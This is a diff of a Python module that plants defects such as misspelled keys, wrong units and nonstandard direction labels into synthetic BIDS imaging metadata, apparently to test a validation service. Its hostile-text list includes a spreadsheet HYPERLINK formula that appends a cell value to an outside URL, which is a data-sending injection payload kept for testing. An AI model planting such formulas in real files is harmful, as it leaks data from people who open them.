@@ -1,4 +1,4 @@
-"""Defects of acquisition parameters and of text, planted as in ``plant_values``. All people are invented."""
+"""Defects of acquisition parameters and of text, planted as in ``plant_values``."""
 
 from __future__ import annotations
 
@@ -7,14 +7,29 @@ import numpy as np
 from flows.demo.corpus.chance import pick
 from flows.demo.corpus.images import Image
 from flows.demo.corpus.model import Document
-from flows.demo.corpus.plant_values import Detail, get, put
+from flows.demo.corpus.plant_values import Detail, Found, get, put
+from flows.demo.corpus.schedule import FIELD_CAST_UNTIL
 
-MISSPELLED = {
-    "ManufacturersModelName": "ManufacturerModelName",
-    "ParallelReductionFactorInPlane": "ParallelReductionFactorInPlan",
-    "FlipAngle": "FLipAngle",
+MISSPELLED = (
+    ("ManufacturersModelName", "ManufacturerModelName"),
+    ("ParallelReductionFactorInPlane", "ParallelReductionFactorInPlan"),
+    ("FlipAngle", "FLipAngle"),
+    ("InPlanePhaseEncodingDirection", "InplanePhaseEncodingDirection"),
+    ("RepetitionTime", "repetitionTime"),
+    ("RepetitionTime", "RepetitonTime"),
+    ("MagneticFieldStrength", "MagneticFieldStrenght"),
+    ("EchoTime", "EchoTme"),
+)
+"""Key as BIDS spells it, and how somebody spells it. The first three are what the service is known to hold."""
+
+LETTERS = {
+    "letters": {"j-": "AP", "j": "PA", "i": "LR", "i-": "RL"},
+    "axis": {"j-": "y-", "j": "y", "i": "x", "i-": "x-"},
+    "lower case": {"j-": "ap", "j": "pa", "i": "lr", "i-": "rl"},
+    "arrow": {"j-": "A>>P", "j": "P>>A", "i": "L>>R", "i-": "R>>L"},
 }
-"""Key as BIDS spells it, to the misspelling its writers are known for."""
+"""Ways to write a phase encoding direction that are not BIDS' (of images in the orientation RAS)."""
+_SLICE_AXES = {"k": "z", "k-": "z-"}
 
 HOSTILE = (
     '=HYPERLINK("http://example.org/?x="&A1,"open")',
@@ -30,33 +45,50 @@ HOSTILE = (
 )
 """Texts that break careless writers of CSV, spreadsheets, reports and terminals."""
 
-_PERSONAL = (
-    ("PatientName", "DOE^JANE^Q"),
-    ("OperatorsName", "Rasmus Ohlendorf"),
-    ("ReferringPhysicianName", "Dr. Amina Example, phone +1 202-555-0143"),
-    ("ImageComments", "participant moved; call 202-555-0171 to reschedule"),
-    ("ContactInformation", {"name": "Li Placeholder", "mail": "li.placeholder@example.org"}),
-    ("ProtocolName", "T1_mprage for max.mustermann@example.org"),
-    ("ProtocolName", "head_JANE_DOE_1984-03-02"),
-)
+SCANNER = ("Manufacturer", "ManufacturersModelName", "ImagingFrequency", "SoftwareVersions")
+"""Parameters that tell, or help to tell, a scanner's field."""
+
+LEAST_TR = 0.05
+"""Seconds. A shorter repetition time in milliseconds could be one in seconds."""
 
 
-def misspelled_key(document: Document, image: Image, rng: np.random.Generator) -> Detail:
-    """A BIDS key, misspelled by whoever wrote the sidecar."""
+def misspelled_key(
+    document: Document, image: Image, rng: np.random.Generator, name: str, sent_key: str
+) -> Detail:
+    """The BIDS key ``name``, misspelled by whoever wrote the sidecar."""
     meta = document["bids_meta"]
-    known = [name for name in MISSPELLED if name in meta]
-    if not known:
+    if name not in meta:
         return None
-    name = pick(rng, known)
-    value = meta.pop(name)
-    meta[MISSPELLED[name]] = value
-    return {"column": f"bids_meta.{name}", "true": value, "sent": None, "sent_key": MISSPELLED[name]}
+    del meta[name]
+    # As the sidecar has it: the service cut the field to an integer under its right name only.
+    meta[sent_key] = image.meta[name]
+    return {"column": f"bids_meta.{name}", "true": image.meta[name], "sent": None, "sent_key": sent_key}
 
 
-def echo_time_ms(document: Document, image: Image, rng: np.random.Generator) -> Detail:
-    """``EchoTime`` in milliseconds where BIDS has seconds."""
-    true = get(document, "bids_meta.EchoTime")
-    return None if true is None else put(document, "bids_meta.EchoTime", round(true * 1000, 6))
+def unnamed_scanner(document: Document, image: Image, rng: np.random.Generator, cast: int) -> Detail:
+    """Nothing tells the field of a scanner whose field the service cut to ``cast``."""
+    true = image.meta.get("MagneticFieldStrength")
+    if true is None or true == cast or int(true) != cast or image.sent >= FIELD_CAST_UNTIL:
+        return None
+    meta = document["bids_meta"]
+    missing = [name for name in SCANNER if name in meta]
+    for name in missing:
+        del meta[name]
+    return {"missing": missing} if missing else None
+
+
+def milliseconds(document: Document, image: Image, rng: np.random.Generator, names: tuple[str, ...]) -> Found:
+    """Times in milliseconds where BIDS has seconds; no repetition time below :data:`LEAST_TR`."""
+    true = {f"bids_meta.{name}": get(document, f"bids_meta.{name}") for name in names}
+    if None in true.values() or true.get("bids_meta.RepetitionTime", LEAST_TR) < LEAST_TR:
+        return None
+    return [put(document, column, round(seconds * 1000, 6)) for column, seconds in true.items()]
+
+
+def echo_spacing_unit(document: Document, image: Image, rng: np.random.Generator, factor: int) -> Detail:
+    """``EffectiveEchoSpacing`` in milliseconds or microseconds, ``factor`` of which make a second."""
+    true = get(document, "bids_meta.EffectiveEchoSpacing")
+    return None if true is None else put(document, "bids_meta.EffectiveEchoSpacing", round(true * factor, 6))
 
 
 def imaging_frequency_hz(document: Document, image: Image, rng: np.random.Generator) -> Detail:
@@ -65,33 +97,24 @@ def imaging_frequency_hz(document: Document, image: Image, rng: np.random.Genera
     return None if true is None else put(document, "bids_meta.ImagingFrequency", round(true * 1e6))
 
 
-def phase_encoding_letters(document: Document, image: Image, rng: np.random.Generator) -> Detail:
-    """``PhaseEncodingDirection`` in letters that BIDS does not have."""
-    letters = {"j-": ("AP", "y-"), "j": ("PA", "y"), "i": ("x", "LR"), "i-": ("x-", "RL")}
+def phase_encoding_letters(document: Document, image: Image, rng: np.random.Generator, style: str) -> Detail:
+    """``PhaseEncodingDirection`` in letters that BIDS does not have: a key of :data:`LETTERS`."""
     true = get(document, "bids_meta.PhaseEncodingDirection")
-    return (
-        put(document, "bids_meta.PhaseEncodingDirection", pick(rng, letters[true]))
-        if true in letters
-        else None
-    )
+    return None if true is None else put(document, "bids_meta.PhaseEncodingDirection", LETTERS[style][true])
 
 
-def plain_subject_id(document: Document, image: Image, rng: np.random.Generator) -> Detail:
-    """The subject's label in clear, where the client should have hashed it."""
-    return put(document, "bids_meta.subject_id", image.label)
+def encoding_list(document: Document, image: Image, rng: np.random.Generator) -> Detail:
+    """``PhaseEncodingDirection`` as a list of one."""
+    true = get(document, "bids_meta.PhaseEncodingDirection")
+    return None if true is None else put(document, "bids_meta.PhaseEncodingDirection", [true])
 
 
-def device_serial(document: Document, image: Image, rng: np.random.Generator) -> Detail:
-    """The scanner's serial number: the same for all images of a study."""
-    if "Manufacturer" not in document["bids_meta"]:
+def slice_encoding(document: Document, image: Image, rng: np.random.Generator, listed: bool) -> Detail:
+    """``SliceEncodingDirection`` by the axis' name, or ``listed`` as the only one."""
+    true = get(document, "bids_meta.SliceEncodingDirection")
+    if true is None:
         return None
-    return put(document, "bids_meta.DeviceSerialNumber", str(30000 + int(rng.integers(60000))))
-
-
-def personal_text(document: Document, image: Image, rng: np.random.Generator) -> Detail:
-    """A name, a telephone number or an e-mail address in free text."""
-    key, value = pick(rng, _PERSONAL)
-    return put(document, f"bids_meta.{key}", value)
+    return put(document, "bids_meta.SliceEncodingDirection", [true] if listed else _SLICE_AXES[true])
 
 
 def hostile_text(document: Document, image: Image, rng: np.random.Generator) -> Detail:
